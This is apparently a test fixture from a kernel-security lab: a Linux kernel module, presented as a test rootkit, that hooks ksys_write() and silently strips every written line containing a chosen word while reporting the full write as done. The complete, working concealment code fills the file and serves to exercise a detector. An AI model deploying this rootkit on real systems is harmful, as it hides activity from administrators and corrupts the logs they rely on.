// SPDX-License-Identifier: GPL-2.0
/*
 * pg_write_filter: a test rootkit of patchguard's kernel lab (tests/lab/test_lab_hidden_task.py).
 * One rootkit seen in the wild dropped, from every process's writes, each output line that
 * named it, so that no tool's output (a log, a report piped to a file) could show it. This one
 * does that with a kretprobe on ksys_write(): on entry it copies the caller's buffer, drops
 * every line containing `word`, writes what is left back over the start of the buffer and
 * shortens the count; on return it reports the whole count as written, so the caller does not
 * try the rest again. Writes larger than 64 KiB pass untouched.
 *
 *   insmod pg_write_filter.ko word=<word>
 */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>

#define MAX_WRITE 65536

static char word[32] = "pg_write_filter";
module_param_string(word, word, sizeof(word), 0444);
MODULE_PARM_DESC(word, "lines containing this are dropped from every write");
static unsigned long dropped;
module_param(dropped, ulong, 0444);
MODULE_PARM_DESC(dropped, "lines dropped");

struct pg_call {
	size_t count;
	size_t kept;
};

static bool pg_line_has_word(const char *line, size_t len)
{
	size_t n = strlen(word), i;

	for (i = 0; n && i + n <= len; i++)
		if (!memcmp(line + i, word, n))
			return true;
	return false;
}

/* Drop every line containing `word` from buf[0:len) in place; the length kept. */
static size_t pg_filter(char *buf, size_t len)
{
	size_t in = 0, out = 0;

	while (in < len) {
		char *end = memchr(buf + in, '\n', len - in);
		size_t line = end ? end - (buf + in) + 1 : len - in;

		if (pg_line_has_word(buf + in, line)) {
			WRITE_ONCE(dropped, READ_ONCE(dropped) + 1);
		} else {
			memmove(buf + out, buf + in, line);
			out += line;
		}
		in += line;
	}
	return out;
}

/* ssize_t ksys_write(unsigned int fd, const char __user *buf, size_t count) */
static int pg_entry(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	struct pg_call *call = (struct pg_call *)ri->data;
	char __user *ubuf = (char __user *)regs->si;
	size_t count = regs->dx, kept;
	char *copy;

	if (count == 0 || count > MAX_WRITE)
		return 1; /* no return handler for this call */
	copy = kmalloc(count, GFP_ATOMIC);
	if (!copy)
		return 1;
	if (copy_from_user_nofault(copy, ubuf, count)) {
		kfree(copy);
		return 1;
	}
	kept = pg_filter(copy, count);
	if (kept == count || copy_to_user_nofault(ubuf, copy, kept)) {
		kfree(copy);
		return 1;
	}
	kfree(copy);
	call->count = count;
	call->kept = kept;
	regs->dx = kept;
	return 0;
}

static int pg_return(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	struct pg_call *call = (struct pg_call *)ri->data;

	if ((long)regs_return_value(regs) == (long)call->kept)
		regs_set_return_value(regs, call->count);
	return 0;
}

static struct kretprobe pg_probe = {
	.kp.symbol_name = "ksys_write",
	.entry_handler = pg_entry,
	.handler = pg_return,
	.data_size = sizeof(struct pg_call),
	.maxactive = 64,
};

static int __init pg_write_filter_init(void)
{
	int err = register_kretprobe(&pg_probe);

	if (err)
		pr_err("pg_write_filter: register_kretprobe: %d\n", err);
	return err;
}

static void __exit pg_write_filter_exit(void)
{
	unregister_kretprobe(&pg_probe);
}

module_init(pg_write_filter_init);
module_exit(pg_write_filter_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("patchguard lab test rootkit: lines with a word dropped from every write");
